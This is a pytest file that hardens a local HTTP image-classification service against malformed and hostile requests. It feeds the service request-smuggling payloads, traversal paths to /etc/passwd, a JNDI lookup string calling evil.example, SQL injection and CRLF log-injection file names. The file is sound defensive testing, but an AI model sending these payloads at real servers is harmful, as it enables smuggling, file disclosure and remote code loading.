"""Malicious requests, byte by byte. Each gets a single response, and none counts as two.

Slow bodies, silent connections and headers that never end: test_slow_clients.py.
"""

import json
import re
import socket
from contextlib import suppress

import pytest
from engines import picture
from live import Live, metric
from patience import PATIENCE

pytestmark = pytest.mark.slow

FORM = (  # without an image, so 415
    b'--x\r\nContent-Disposition: form-data; name="image"; filename="a"\r\n\r\nhello\r\n--x--\r\n'
)
LENGTH = b"Content-Length: %d\r\n" % len(FORM)
CHUNKED = b"Transfer-Encoding: chunked\r\n"
CLOSE = b"Connection: close\r\n"
NEXT = b"GET /nowhere HTTP/1.1\r\nHost: x\r\n\r\n"  # 404 if it were taken for a request


def chunks(body, size=7):
    parts = [body[i : i + size] for i in range(0, len(body), size)]
    return b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in parts) + b"0\r\n\r\n"


def request(
    headers=b"",
    body=FORM,
    line=b"POST /classify HTTP/1.1",
    host=b"Host: x\r\n",
    kind=b"multipart/form-data; boundary=x",
):
    return line + b"\r\n" + host + CLOSE + b"Content-Type: %s\r\n" % kind + headers + b"\r\n" + body


def get(line, headers=b""):
    return request(headers, b"", line)


LENGTHS = {
    "letters": b"abc",
    "a negative number": b"-1",
    "a sign": b"+88",
    "a hexadecimal number": b"0x58",
    "nothing": b"",
    "two numbers": b"88, 88",
    "an underscore": b"8_8",
    "a superscript": b"\xb2",
    "five thousand digits": b"9" * 5000,
    "a space": b"8 8",
}
SMUGGLED = {  # a proxy might see a single request, and the server behind it two
    "two lengths that differ": (400, request(LENGTH + b"Content-Length: 3\r\n")),
    "two lengths that are the same": (400, request(LENGTH + LENGTH)),
    "a length and chunks": (400, request(LENGTH + CHUNKED, chunks(FORM))),
    "chunks and a length that hides a request": (
        400,
        request(b"Content-Length: 5\r\n" + CHUNKED, b"0\r\n\r\n" + NEXT),
    ),
    "chunks under two names": (400, request(CHUNKED + CHUNKED, chunks(FORM))),
    "chunks that are no chunks in the end": (
        400,
        request(b"Transfer-Encoding: chunked, identity\r\n", chunks(FORM)),
    ),
    "a coding that is almost chunked": (
        501,
        request(b"Transfer-Encoding: xchunked\r\n", chunks(FORM)),
    ),
    "chunked behind a vertical tab": (
        400,
        request(b"Transfer-Encoding: \x0bchunked\r\n", chunks(FORM)),
    ),
    "a space before the colon": (400, request(b"Transfer-Encoding : chunked\r\n" + LENGTH)),
    "chunks in HTTP/1.0": (400, request(CHUNKED, chunks(FORM), b"POST /classify HTTP/1.0")),
    "a length with an underscore in its name": (415, request(LENGTH + b"Content_Length: 3\r\n")),
    "lines that end in a bare line feed": (400, request(LENGTH).replace(b"\r\n", b"\n")),
    "a header folded over two lines": (400, request(LENGTH + b"X-Request-ID: a\r\n b\r\n")),
    "two hosts": (400, request(LENGTH, host=b"Host: x\r\nHost: y\r\n")),
}
CHUNKS = {
    "chunks": (415, request(CHUNKED, chunks(FORM))),
    "chunks of one byte": (415, request(CHUNKED, chunks(FORM, 1))),
    "a size of letters": (400, request(CHUNKED, b"zz\r\nhello\r\n0\r\n\r\n")),
    "a negative size": (400, request(CHUNKED, b"-5\r\nhello\r\n0\r\n\r\n")),
    "a size that is too small": (400, request(CHUNKED, b"3\r\nhello\r\n0\r\n\r\n")),
    "a size of a million digits": (
        400,
        request(CHUNKED, b"0" * 1_000_000 + b"5\r\nhello\r\n0\r\n\r\n"),
    ),
    "an extension of a megabyte": (
        400,
        request(CHUNKED, b"5;" + b"a" * 1_000_000 + b"\r\nhello\r\n0\r\n\r\n"),
    ),
    "a trailer of a megabyte": (
        400,
        request(CHUNKED, chunks(FORM)[:-2] + b"X: " + b"a" * 1_000_000 + b"\r\n\r\n"),
    ),
    "twenty megabytes": (413, request(CHUNKED, chunks(bytes(20_000_000), 65536))),
}
HEADERS = {
    "a length of thirty digits": (413, request(b"Content-Length: " + b"9" * 30 + b"\r\n", b"")),
    "a header of 100 kB": (431, request(LENGTH + b"X: " + b"a" * 100_000 + b"\r\n")),
    "a thousand headers": (431, request(LENGTH + b"".join(b"X%d: 1\r\n" % i for i in range(1000)))),
    "an address of 100 kB": (414, get(b"GET /" + b"a" * 100_000 + b" HTTP/1.1")),
    "a zero byte in a header": (400, request(LENGTH + b"X: a\0b\r\n")),
    "a line feed in the request id": (400, request(LENGTH + b"X-Request-ID: a\nb\r\n")),
    "a carriage return in the request id": (400, request(LENGTH + b"X-Request-ID: a\rb\r\n")),
    "a header without a colon": (400, request(LENGTH + b"Nonsense\r\n")),
    "a token of no text": (415, request(LENGTH + b"Authorization: Bearer \xff\xfe\r\n")),
    "an expectation that nobody knows": (417, request(LENGTH + b"Expect: miracles\r\n")),
    "a boundary that is missing": (400, request(LENGTH, kind=b"multipart/form-data")),
    "an empty boundary": (400, request(LENGTH, kind=b"multipart/form-data; boundary=")),
    "a boundary of 7 kB": (
        400,
        request(LENGTH, kind=b"multipart/form-data; boundary=" + b"a" * 7000),
    ),
    "a boundary of no text": (400, request(LENGTH, kind=b"multipart/form-data; boundary=\xff\xfe")),
    "a charset of another age": (
        415,
        request(LENGTH, kind=b"multipart/form-data; boundary=x; charset=utf-7"),
    ),
    "a compressed body that is none": (415, request(LENGTH + b"Content-Encoding: gzip\r\n")),
    "another method by header": (
        415,
        request(LENGTH + b"X-HTTP-Method-Override: GET\r\nForwarded: for=x\r\n"),
    ),
    "another path by header": (
        415,
        request(LENGTH + b"SCRIPT_NAME: /x\r\nPATH_INFO: /metrics\r\n"),
    ),
}
LINES = {
    "an unknown method": (405, get(b"JUNK /healthz HTTP/1.1")),
    "TRACE": (405, get(b"TRACE /healthz HTTP/1.1")),
    "small letters": (400, get(b"get /healthz HTTP/1.1")),
    "CONNECT": (404, get(b"CONNECT evil.example:443 HTTP/1.1")),
    "another server's address": (
        415,
        request(LENGTH, line=b"POST http://evil.example/classify HTTP/1.1"),
    ),
    "the folder above": (404, get(b"GET /../../../../etc/passwd HTTP/1.1")),
    "a star": (404, get(b"OPTIONS * HTTP/1.1")),
    "the folder above, escaped": (404, get(b"GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1")),
    "an escape that is none": (404, get(b"GET /%zz%ff HTTP/1.1")),
    "a zero byte": (400, get(b"GET /health\0z HTTP/1.1")),
    "two slashes": (415, request(LENGTH, line=b"POST //classify HTTP/1.1")),
    "an escaped zero byte": (404, get(b"GET /healthz%00 HTTP/1.1")),
    "HTTP/9.9": (400, get(b"GET /healthz HTTP/9.9")),
    "HTTP/0.9": (400, b"GET /healthz\r\n\r\n"),
    "HTTP/2": (400, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "a proxy's greeting": (
        400,
        b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + get(b"GET /healthz HTTP/1.1"),
    ),
    "noise": (400, bytes(range(256)) * 10),
    "nothing but empty lines": (400, b"\r\n" * 1000),
    "a text that is no query": (200, get(b"GET /healthz?details=%ff%fe&&&=&details[]=1 HTTP/1.1")),
    "a body where none belongs": (200, request(LENGTH, line=b"GET /healthz HTTP/1.1")),
}
ALL = {
    **{
        f"a length of {what}": (400, request(b"Content-Length: " + value + b"\r\n"))
        for what, value in LENGTHS.items()
    },
    **SMUGGLED,
    **CHUNKS,
    **HEADERS,
    **LINES,
}


@pytest.fixture(scope="module")
def live(tmp_path_factory):
    # Ten times the seconds of the largest body here.
    server = Live(tmp_path_factory.mktemp("http"), BODY_TIMEOUT_S="4")
    yield server
    server.stop()


def ask(live, data, quiet=PATIENCE):
    """Send bytes -> all bytes that come back, until the end or `quiet` seconds of silence."""
    host, port = live.url.removeprefix("http://").split(":")
    response = b""
    with socket.create_connection((host, int(port)), timeout=PATIENCE) as connection:
        with suppress(OSError):  # refused before all was sent; the response can still be read
            connection.sendall(data)
        try:
            while part := connection.recv(65536):
                response += part
                connection.settimeout(quiet)
        except TimeoutError:
            assert response, "neither a response nor an end"
        except OSError:
            pass
    return response


def log(live, start=0):
    """The log lines from this byte on, each of them JSON."""
    return [json.loads(line) for line in live.log.read_bytes()[start:].splitlines()]


def statuses(response):
    return [int(code) for code in re.findall(rb"^HTTP/1\.1 (\d+) ", response, re.MULTILINE)]


@pytest.mark.parametrize("status, data", ALL.values(), ids=ALL)
def test_a_malicious_request_gets_a_single_response_with_the_fitting_status(live, status, data):
    response = ask(live, data)
    assert statuses(response) == [status], response[:500]
    assert status < 400 or list(json.loads(response.split(b"\r\n\r\n")[1])) == ["error"]
    assert b"Traceback" not in response and b"root:" not in response
    assert live.get("/healthz").status_code == 200


@pytest.mark.parametrize(
    "data",
    [
        get(b"GET /healthz TOKEN HTTP/1.1"),
        get(b"GET /healthz TOKEN"),
        get(b"GE(TOKEN / HTTP/1.1"),
        request(b"Authorization : Bearer TOKEN\r\n"),
        request(b"X: TOKEN\0\r\n"),
        request(b"TOKEN\r\n"),
        request(CHUNKED, b"TOKEN\r\n"),
    ],
)
def test_malformed_bytes_are_neither_in_the_response_nor_in_the_log(live, data):
    before = live.log.stat().st_size
    response = ask(live, data)
    assert statuses(response) == [400] and b"malformed" in response and b"TOKEN" not in response
    assert [line["event"] for line in log(live, before)] in (["malformed"], ["request"])
    assert b"TOKEN" not in live.log.read_bytes()[before:]


@pytest.mark.parametrize(
    "line, status",
    [
        (b"POST /nowhere-either HTTP/1.1", 404),
        (b"POST /healthz HTTP/1.1", 405),
        (b"GET /healthz HTTP/1.1", 200),
        (b"POST /feedback HTTP/1.1", 403),
    ],
)
def test_an_unread_body_is_not_taken_for_the_next_request(live, line, status):
    head = line + b"\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(NEXT)
    assert statuses(ask(live, head + NEXT + get(b"GET /readyz HTTP/1.1"))) == [status, 200]


def test_a_body_that_is_too_large_is_not_taken_for_the_next_request(live):
    body, before = NEXT * (11_000_000 // len(NEXT)), live.log.stat().st_size
    data = request(b"Content-Length: %d\r\n" % len(body), body).replace(CLOSE, b"")
    assert statuses(ask(live, data, quiet=1)) == [413]
    assert [line["status"] for line in log(live, before)] == [413]


def test_expect_100_continue_is_granted(live):
    data = request(LENGTH + b"Expect: 100-continue\r\n")
    assert statuses(ask(live, data)) == [100, 415]


def test_tls_on_the_plain_port_is_cut_off(live):
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200)
    assert statuses(ask(live, hello)) in ([], [400])


def test_a_body_shorter_than_its_stated_length_is_408(live):
    """Although the form is complete."""
    with_picture = FORM.replace(b"hello", picture())
    data = request(b"Content-Length: %d\r\n" % (len(with_picture) + 50), with_picture)
    assert statuses(ask(live, data)) == [408]


NAMES = [
    b'a\\r\\n{"event": "verdict"}',
    b"a\n{}",
    b"../../../etc/passwd",
    b"a\x1b[31m",
    b"\xff\xfe",
    b"%0d%0a{}",
    b"a" * 5000,
    b"a\xe2\x80\xa8b",
    b"'; DROP TABLE x; --",
    b"C:\\boot.ini",
    b"${jndi:ldap://evil.example/a}",
]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize(
    "field",
    [
        b'name="image"; filename="%s"',
        b'name="image"; filename="a"; filename*=utf-8\'\'%s',
        b'name="%s"; filename="a"',
    ],
)
def test_no_name_is_in_the_log_or_breaks_its_lines(live, name, field):
    before = live.log.stat().st_size
    body = FORM.replace(b'name="image"; filename="a"', field % name)
    response = ask(live, request(b"Content-Length: %d\r\n" % len(body), body))
    assert set(statuses(response)) <= {400, 413, 415}
    assert {line["event"] for line in log(live, before)} <= {"request", "image_error"}
    for word in (b"evil.example", b"passwd", b"DROP", b"boot.ini", b"aaaaa", b"\x1b"):
        assert word not in live.log.read_bytes()[before:]


def test_after_all_this_the_log_has_no_bug_and_memory_has_not_grown(live, photos):
    first = [live.post(photos["china.jpg"].read_bytes()).json() for _ in range(20)][0]
    before = resident(live)
    for _, data in ALL.values():
        ask(live, data)
    assert live.post(photos["china.jpg"].read_bytes()).json() == first
    assert resident(live) - before < 40e6
    assert not [
        line
        for line in log(live)
        if line["event"] == "bug" or line["level"] == "critical" or line.get("status") == 500
    ]


def resident(live):
    return metric(live, "process_resident_memory_bytes")
